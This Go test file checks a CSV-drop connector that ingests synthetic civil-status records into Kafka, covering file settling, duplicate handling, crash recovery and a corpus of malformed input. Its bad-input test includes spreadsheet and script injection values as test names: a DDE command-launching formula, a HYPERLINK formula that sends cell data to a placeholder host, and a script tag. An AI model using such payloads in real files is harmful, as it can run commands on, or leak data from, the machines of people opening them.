package csvdrop

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/segmentio/kafka-go"

	"github.com/askonce/askonce/connectors/connector"
	"github.com/askonce/askonce/connectors/connectortest"
	"github.com/askonce/askonce/internal/bus"
	"github.com/askonce/askonce/internal/dbroles"
	"github.com/askonce/askonce/internal/store"
	"github.com/askonce/askonce/internal/testenv"
	"github.com/askonce/askonce/schemas"
)

// testEnv is a broker, a registry and a bus database, and the connector
// runtime on them.
type testEnv struct {
	*connectortest.Env
	t      *testing.T
	ctx    context.Context
	addr   string
	topics bus.Topics
	db     *pgxpool.Pool
	fm     *Metrics
}

func newEnv(t *testing.T) *testEnv {
	t.Helper()
	env := connectortest.NewEnv(t)
	env.Migrate(Migrate)
	return &testEnv{Env: env, t: t, ctx: env.Ctx, addr: env.Addr, topics: env.Topics, db: env.DB, fm: NewMetrics(env.Metrics)}
}

// opts tune a test's drop and runner.
type opts struct {
	BatchSize int
	Settle    time.Duration
	// afterPublish runs after each batch was acknowledged, before its
	// checkpoint is saved.
	afterPublish func(n int)
	// afterHash runs after a file was opened and hashed, before it is parsed.
	afterHash func(name string)
}

func (e *testEnv) drop(dir string, o opts) *Drop {
	if o.Settle == 0 {
		o.Settle = 300 * time.Millisecond
	}
	d := NewDrop(Config{Agency: "etatcivil", DataCenter: "etatcivil-dc07", Dir: dir, BatchSize: o.BatchSize,
		PollInterval: 50 * time.Millisecond, Settle: o.Settle}, e.db, e.topics, e.fm, e.Log)
	d.afterHash = o.afterHash
	return d
}

func (e *testEnv) runner(dir string, o opts) *connector.Runner {
	d := e.drop(dir, o)
	return e.Runner(Instance(d.cfg), d, connector.Options{AfterPublish: o.afterPublish})
}

// start runs r until the test ends or stop is called.
func (e *testEnv) start(r *connector.Runner) (stop func()) { return e.Start(r) }

// waitReport waits for dir/<sub>/<name>.report.json and reads it.
func (e *testEnv) waitReport(dir, sub, name string, timeout time.Duration) *Report {
	e.t.Helper()
	path := filepath.Join(dir, sub, name+".report.json")
	deadline := time.Now().Add(timeout)
	for !exists(path) {
		if time.Now().After(deadline) {
			entries, _ := os.ReadDir(dir)
			var names []string
			for _, en := range entries {
				names = append(names, en.Name())
			}
			e.t.Fatalf("no report %s after %s (dir holds %v)", path, timeout, names)
		}
		time.Sleep(50 * time.Millisecond)
	}
	rep, err := ReadReport(path)
	testenv.Must(e.t, err, "report")
	if !exists(filepath.Join(dir, sub, name)) {
		e.t.Fatalf("report %s but no file beside it", path)
	}
	return rep
}

// civil decodes the civil-status topic.
func (e *testEnv) civil(msgs []kafka.Message) []*schemas.CivilStatusRecord {
	e.t.Helper()
	recs := e.Civil(msgs)
	for i, r := range recs {
		if string(msgs[i].Key) != r.NIN {
			e.t.Errorf("key %s, NIN %s", msgs[i].Key, r.NIN)
		}
	}
	return recs
}

func (e *testEnv) fileRow(sha string) fileRow {
	e.t.Helper()
	row, ok, err := (&files{pool: e.db, connector: "csvdrop:etatcivil-dc07"}).get(e.ctx, sha)
	testenv.Must(e.t, err, "csvdrop_files")
	if !ok {
		e.t.Fatalf("no csvdrop_files row for %s", sha)
	}
	return row
}

const birthHeader = "id,version,nin,surname_latin,surname_arabic,first_names_latin,first_names_arabic,sex,birth_date," +
	"birth_commune,birth_wilaya,act_number,act_year,act_commune,registered_on,marginal_notes"

func ninOf(act int) string { return fmt.Sprintf("10985%s%05d0137", "9916", act) }

// birthLine is a valid birth (synthetic commune 9916) of act number act.
func birthLine(id, version, act int) string {
	return fmt.Sprintf("%d,%d,%s,BENALI,بن علي,Youcef,يوسف,M,1985-03-14,9916,16,%d,1985,9916,1985-03-16,Mention %d|autre", id, version, ninOf(act), act, id)
}

func birthFile(from, n int) []byte {
	var b bytes.Buffer
	b.WriteString(birthHeader + "\n")
	for i := from; i < from+n; i++ {
		b.WriteString(birthLine(i, 1, i) + "\n")
	}
	return b.Bytes()
}

func write(t *testing.T, path string, data []byte) {
	t.Helper()
	testenv.Must(t, os.WriteFile(path, data, 0o644), "write %s", path)
}

func sha(b []byte) string {
	h := sha256.Sum256(b)
	return hex.EncodeToString(h[:])
}

// TestSettleAndIgnoredNames: a file still being written is not read until
// its size and mtime settle; hidden, .tmp and .part files are never read;
// a producer's atomic rename is picked up.
func TestSettleAndIgnoredNames(t *testing.T) {
	e := newEnv(t)
	dir := t.TempDir()
	e.start(e.runner(dir, opts{BatchSize: 7, Settle: time.Second}))

	ignored := map[string][]byte{
		".birth-hidden.csv":     birthFile(900, 2),
		"birth-upload.csv.part": birthFile(910, 2),
		"birth-next.csv.tmp":    birthFile(920, 2),
		"birth-notes.txt":       birthFile(930, 2),
	}
	for name, data := range ignored {
		write(t, filepath.Join(dir, name), data)
	}

	// A slow writer: half a line at a time, every 250ms, for ~2.5s (the
	// settle interval is 1s). Read early, the cut lines would be DLQ'd.
	content := birthFile(1, 10)
	f, err := os.Create(filepath.Join(dir, "birth-slow.csv"))
	testenv.Must(t, err, "create")
	step := len(content)/10 + 1
	for off := 0; off < len(content); off += step {
		_, err := f.Write(content[off:min(off+step, len(content))])
		testenv.Must(t, err, "write")
		time.Sleep(250 * time.Millisecond)
		if exists(filepath.Join(dir, DoneDir, "birth-slow.csv")) {
			t.Fatalf("a file being written was processed (at byte %d of %d)", off, len(content))
		}
		var n int
		testenv.Must(t, e.db.QueryRow(e.ctx, `SELECT count(*) FROM csvdrop_files`).Scan(&n), "count")
		if n != 0 {
			t.Fatalf("a file being written was recorded (at byte %d of %d)", off, len(content))
		}
	}
	testenv.Must(t, f.Close(), "close")
	rep := e.waitReport(dir, DoneDir, "birth-slow.csv", 10*time.Second)
	if rep.Outcome != "done" || rep.Totals.Lines != 10 || rep.Totals.Published != 10 || rep.Totals.Rejected != 0 || len(rep.Lines) != 10 {
		t.Fatalf("report %+v", rep)
	}

	// The producer convention: write under .tmp, then rename.
	testenv.Must(t, os.Rename(filepath.Join(dir, "birth-next.csv.tmp"), filepath.Join(dir, "birth-next.csv")), "rename")
	e.waitReport(dir, DoneDir, "birth-next.csv", 10*time.Second)
	delete(ignored, "birth-next.csv.tmp")

	time.Sleep(500 * time.Millisecond)
	for name := range ignored {
		if !exists(filepath.Join(dir, name)) {
			t.Errorf("%s was touched", name)
		}
	}
	recs := e.civil(testenv.WaitTopic(t, e.ctx, e.addr, e.topics.CivilStatus, 12, 10*time.Second))
	if len(recs) != 12 {
		t.Fatalf("%d records on the topic, want 12", len(recs))
	}
	if dlq := testenv.ReadTopic(t, e.ctx, e.addr, e.topics.DLQ); len(dlq) != 0 {
		t.Fatalf("%d DLQ records: %s %q", len(dlq), bus.Header(dlq[0], bus.HeaderDLQCode), dlq[0].Value)
	}
	st, err := os.Stat(filepath.Join(dir, DoneDir, "birth-slow.csv"))
	testenv.Must(t, err, "stat")
	for _, r := range recs {
		if r.Provenance.SourceKey == "birth/1" && !r.Provenance.EventTime.Equal(st.ModTime().UTC().Truncate(time.Millisecond)) {
			t.Errorf("event time %s, file mtime %s", r.Provenance.EventTime, st.ModTime())
		}
	}
}

// TestDuplicateContent: the same bytes dropped again, under any name, are
// not published again; done/ never overwrites; a content rejected as a
// whole (bad name) is published when dropped again under a good name.
func TestDuplicateContent(t *testing.T) {
	e := newEnv(t)
	dir := t.TempDir()
	r := e.runner(dir, opts{BatchSize: 100})
	e.start(r)
	content := birthFile(1, 3)
	write(t, filepath.Join(dir, "birth-a.csv"), content)
	first := e.waitReport(dir, DoneDir, "birth-a.csv", 10*time.Second)
	if first.Totals.Published != 3 {
		t.Fatalf("first drop: %+v", first.Totals)
	}

	write(t, filepath.Join(dir, "birth-b.csv"), content)
	write(t, filepath.Join(dir, "birth-a.csv"), content)
	for _, name := range []string{"birth-b.csv", "birth-a.1.csv"} {
		rep := e.waitReport(dir, DoneDir, name, 10*time.Second)
		if rep.Outcome != "duplicate" || rep.DuplicateOf == nil || rep.DuplicateOf.Name != "birth-a.csv" || rep.DuplicateOf.Published != 3 ||
			rep.Totals.Lines != 0 || rep.SHA256 != first.SHA256 {
			t.Fatalf("%s: %+v dup %+v", name, rep, rep.DuplicateOf)
		}
	}
	if b, err := os.ReadFile(filepath.Join(dir, DoneDir, "birth-a.csv.report.json")); err != nil || !bytes.Contains(b, []byte(`"outcome": "done"`)) {
		t.Fatalf("the first report was overwritten: %s %v", b, err)
	}

	// A name no kind matches rejects the file; the same bytes under a
	// good name are then published.
	other := birthFile(50, 2)
	write(t, filepath.Join(dir, "naissances-2026.csv"), other)
	rej := e.waitReport(dir, RejectedDir, "naissances-2026.csv", 10*time.Second)
	if rej.Outcome != "rejected" || rej.Reason == nil || rej.Reason.Code != connector.CodeEntityUnknown {
		t.Fatalf("rejected report %+v", rej)
	}
	write(t, filepath.Join(dir, "birth-2026.csv"), other)
	if rep := e.waitReport(dir, DoneDir, "birth-2026.csv", 10*time.Second); rep.Outcome != "done" || rep.Totals.Published != 2 {
		t.Fatalf("re-dropped under a good name: %+v", rep)
	}
	testenv.WaitTopic(t, e.ctx, e.addr, e.topics.CivilStatus, 5, 10*time.Second)
	time.Sleep(300 * time.Millisecond)
	if recs := e.civil(testenv.ReadTopic(t, e.ctx, e.addr, e.topics.CivilStatus)); len(recs) != 5 {
		t.Fatalf("%d records on the topic, want 5", len(recs))
	}
	if row := e.fileRow(first.SHA256); row.State != stateDone || row.Lines != 3 || row.Published != 3 || row.Name != "birth-a.csv" {
		t.Fatalf("row %+v", row)
	}
	// The documented way to publish the same bytes again: delete the row,
	// drop the file again (the checkpoint, at the end of that very file,
	// does not skip it). An operator's act, with the owner's login: the
	// connectors' role may not delete.
	if _, err := e.db.Exec(e.ctx, `DELETE FROM csvdrop_files WHERE sha256 = $1`, sha(other)); !dbroles.IsCode(err, dbroles.InsufficientPrivilege) {
		t.Fatalf("the connectors' role deletes a file's row: %v", err)
	}
	admin, err := store.OpenURL(e.ctx, e.AdminURL, 1)
	testenv.Must(t, err, "admin")
	defer admin.Close()
	_, err = admin.Exec(e.ctx, `DELETE FROM csvdrop_files WHERE sha256 = $1`, sha(other))
	testenv.Must(t, err, "delete row")
	write(t, filepath.Join(dir, "birth-again.csv"), other)
	if rep := e.waitReport(dir, DoneDir, "birth-again.csv", 10*time.Second); rep.Outcome != "done" || rep.Totals.Published != 2 {
		t.Fatalf("published again: %+v", rep)
	}
	if err := r.Healthy(); err != nil {
		t.Fatalf("healthy: %v", err)
	}
}

// TestRestartMidFile: a crash after a batch was published but before its
// progress was saved repeats that batch only; the file is finished by the
// next run and its report lists every line once.
func TestRestartMidFile(t *testing.T) {
	e := newEnv(t)
	dir := t.TempDir()
	content := birthFile(1, 95)
	write(t, filepath.Join(dir, "birth-big.csv"), content)

	ctx, crash := context.WithCancel(e.ctx)
	batches := 0
	r1 := e.runner(dir, opts{BatchSize: 10, afterPublish: func(int) {
		if batches++; batches == 3 {
			crash() // records 21-30 acknowledged, their checkpoint not saved
		}
	}})
	done := make(chan error, 1)
	go func() { done <- r1.Run(ctx) }()
	select {
	case err := <-done:
		testenv.Must(t, err, "run 1")
	case <-time.After(20 * time.Second):
		t.Fatal("run 1 did not stop")
	}
	sum := sha(content)
	if row := e.fileRow(sum); row.State != statePublishing || row.Lines != 20 || row.Published != 20 {
		t.Fatalf("after the crash: %+v", row)
	}
	cp, err := connector.NewCheckpoints(e.db).Load(e.ctx, "csvdrop:etatcivil-dc07")
	testenv.Must(t, err, "checkpoint")
	if c := decodeCheckpoint(cp); c.sha != sum || c.records != 20 {
		t.Fatalf("checkpoint after the crash: %+v", c)
	}
	if !exists(filepath.Join(dir, "birth-big.csv")) {
		t.Fatal("file moved before it was finished")
	}

	r2 := e.runner(dir, opts{BatchSize: 10})
	e.start(r2)
	rep := e.waitReport(dir, DoneDir, "birth-big.csv", 15*time.Second)
	if rep.Totals.Lines != 95 || rep.Totals.Published != 95 || len(rep.Lines) != 95 {
		t.Fatalf("report totals %+v, %d lines", rep.Totals, len(rep.Lines))
	}
	for i, l := range rep.Lines {
		if l.Record != i+1 || l.Line != i+2 || l.Outcome != outcomePublished || l.SourceKey != fmt.Sprintf("birth/%d", i+1) || l.Version != 1 {
			t.Fatalf("report line %d: %+v", i, l)
		}
	}
	if row := e.fileRow(sum); row.State != stateDone || row.Lines != 95 || row.Published != 95 || row.Finished == nil {
		t.Fatalf("after the restart: %+v", row)
	}
	recs := e.civil(testenv.WaitTopic(t, e.ctx, e.addr, e.topics.CivilStatus, 105, 10*time.Second))
	seen := map[string]int{}
	for _, r := range recs {
		seen[r.Provenance.SourceKey]++
		if r.Provenance.SourceVersion != 1 {
			t.Errorf("%s version %d", r.Provenance.SourceKey, r.Provenance.SourceVersion)
		}
	}
	var twice []string
	for k, n := range seen {
		if n > 1 {
			twice = append(twice, k)
		}
	}
	slices.Sort(twice)
	if len(recs) != 105 || len(seen) != 95 || len(twice) != 10 || twice[0] != "birth/21" || twice[9] != "birth/30" {
		t.Fatalf("%d records, %d keys, published twice: %v", len(recs), len(seen), twice)
	}
	if exists(filepath.Join(dir, StateDir, sum+".journal")) {
		t.Error("journal left behind")
	}
}

// corpus is what each file of testdata/csv gives: its outcome, and per
// data line the DLQ code ("" = published), in order.
var corpus = map[string]struct {
	outcome string
	code    string // of a whole-file rejection
	lines   []string
}{
	"birth-malformed.csv":            {"done", "", []string{"", "csv.malformed", "csv.malformed", "csv.malformed", "csv.malformed", "csv.malformed", "", "", ""}},
	"birth-truncated.csv":            {"done", "", []string{"", "", "csv.malformed"}},
	"death-latin1.csv":               {"done", "", []string{"", "csv.encoding", "", "csv.encoding"}},
	"marriage-oversize.csv":          {"done", "", []string{"field.too_long", "", ""}},
	"birth-injection.csv":            {"done", "", []string{"", "", "", ""}},
	"death-bom-crlf.csv":             {"done", "", []string{"", ""}},
	"marriage-longline.csv":          {"done", "", []string{"", "line.too_long", ""}}, // generated: > 64 KiB
	"contribution-typo.csv":          {"rejected", CodeHeader, nil},
	"affiliation-missing-column.csv": {"rejected", CodeHeader, nil},
	"employment-empty.csv":           {"rejected", CodeHeader, nil},
	"pension-2026-01.csv":            {"rejected", connector.CodeEntityUnknown, nil},
	"death-header-latin1.csv":        {"rejected", CodeHeader, nil},
	"birth-utf16.csv":                {"rejected", CodeHeader, nil}, // UTF-16LE with a BOM: not UTF-8
	"birth-garbage.csv":              {"done", "", []string{"", "csv.encoding", "csv.malformed", "csv.encoding", "", "csv.encoding", ""}},
	"birth-rules.csv":                {"done", "", []string{"", "date.future", "nin.birth_mismatch", "nin.format", "provenance.version", "date.order", ""}},
}

// TestBadInputCorpus drops testdata/csv: every bad line is dead-lettered
// with its code, position and original bytes, every good one published,
// every unusable file rejected with a report; nothing stops the connector.
func TestBadInputCorpus(t *testing.T) {
	e := newEnv(t)
	dir := t.TempDir()
	src := filepath.Join(testenv.RepoRoot(t), "testdata", "csv")
	entries, err := os.ReadDir(src)
	testenv.Must(t, err, "corpus")
	raw := map[string][]byte{}
	for _, en := range entries {
		if !strings.HasSuffix(en.Name(), ".csv") {
			continue // .gitattributes
		}
		b, err := os.ReadFile(filepath.Join(src, en.Name()))
		testenv.Must(t, err, "read")
		raw[en.Name()] = b
	}
	mh := "id,version,nin,act_number,act_year,act_commune,marriage_date,spouse_nin,marginal_notes\n"
	ml := func(id, act int, note string) string {
		return fmt.Sprintf("%d,1,%s,%d,2010,9916,2010-06-01,%s,%s\n", id, ninOf(act), act, ninOf(act+1), note)
	}
	raw["marriage-longline.csv"] = []byte(mh + ml(1, 401, "a") + ml(2, 403, strings.Repeat("b,", MaxLine/2)) + ml(3, 405, "c"))
	for name := range corpus {
		if raw[name] == nil {
			t.Fatalf("testdata/csv/%s missing", name)
		}
	}
	for name, b := range raw {
		if _, ok := corpus[name]; !ok {
			t.Fatalf("testdata/csv/%s has no expectation in the test", name)
		}
		write(t, filepath.Join(dir, name), b)
	}
	r := e.runner(dir, opts{BatchSize: 4})
	e.start(r)

	wantPub, wantDLQ := 0, map[string][]byte{} // position -> raw
	for name, want := range corpus {
		sub := DoneDir
		if want.outcome == "rejected" {
			sub = RejectedDir
		}
		rep := e.waitReport(dir, sub, name, 20*time.Second)
		if rep.Outcome != want.outcome || (want.code != "" && (rep.Reason == nil || rep.Reason.Code != want.code)) {
			t.Errorf("%s: outcome %s reason %+v, want %s %s", name, rep.Outcome, rep.Reason, want.outcome, want.code)
			continue
		}
		var got []string
		for _, l := range rep.Lines {
			got = append(got, l.Code)
			if l.Code == "" {
				wantPub++
			} else {
				wantDLQ[fmt.Sprintf("%s:%d", name, l.Line)] = nil
				if l.Message == "" || l.Outcome != outcomeRejected {
					t.Errorf("%s line %d: %+v", name, l.Line, l)
				}
			}
		}
		if !slices.Equal(got, want.lines) {
			t.Errorf("%s: line codes %q, want %q", name, got, want.lines)
		}
		if rep.Totals.Lines != len(want.lines) || rep.Totals.Published+rep.Totals.Rejected != len(want.lines) {
			t.Errorf("%s: totals %+v", name, rep.Totals)
		}
	}
	dlq := testenv.WaitTopic(t, e.ctx, e.addr, e.topics.DLQ, len(wantDLQ), 10*time.Second)
	for _, m := range dlq {
		pos := bus.Header(m, bus.HeaderDLQPosition)
		if _, ok := wantDLQ[pos]; !ok {
			t.Errorf("unexpected DLQ record at %s: %s", pos, bus.Header(m, bus.HeaderDLQCode))
			continue
		}
		delete(wantDLQ, pos)
		file, lineNo, _ := strings.Cut(pos, ":")
		var n int
		fmt.Sscan(lineNo, &n)
		line := strings.Split(string(raw[file]), "\n")[n-1]
		if !bytes.HasPrefix([]byte(strings.TrimSuffix(line, "\r")), m.Value) || len(m.Value) == 0 || len(m.Value) > MaxLine {
			t.Errorf("DLQ %s: value %.60q is not the line's bytes %.60q", pos, m.Value, line)
		}
		if bus.Header(m, bus.HeaderDLQSource) != "csvdrop:etatcivil-dc07" || bus.Header(m, bus.HeaderDLQAgency) != "etatcivil" {
			t.Errorf("DLQ %s headers %v", pos, m.Headers)
		}
	}
	if len(wantDLQ) > 0 {
		t.Errorf("no DLQ record for %v", wantDLQ)
	}
	recs := e.civil(testenv.WaitTopic(t, e.ctx, e.addr, e.topics.CivilStatus, wantPub, 10*time.Second))
	if len(recs) != wantPub {
		t.Errorf("%d records published, reports say %d", len(recs), wantPub)
	}
	names := map[string]string{}
	for _, r := range recs {
		if r.Person != nil {
			names[r.Person.SurnameLatin] = r.Person.FirstNamesLatin
		}
	}
	for surname, first := range map[string]string{
		"=cmd|' /C calc'!A0": "Youcef", "+1+1": "@SUM(A1:A9)", "-2+3": `=HYPERLINK("http://x.example/?"&A1,"clic")`, "TAB": "<script>alert(1)</script>",
	} {
		if got, ok := names[surname]; !ok || got != first {
			t.Errorf("injection-like name %q: published %v first names %q, want %q", surname, ok, got, first)
		}
	}
	// The connector is healthy: bad input is not a failure.
	if err := r.Healthy(); err != nil {
		t.Errorf("healthy: %v", err)
	}
}
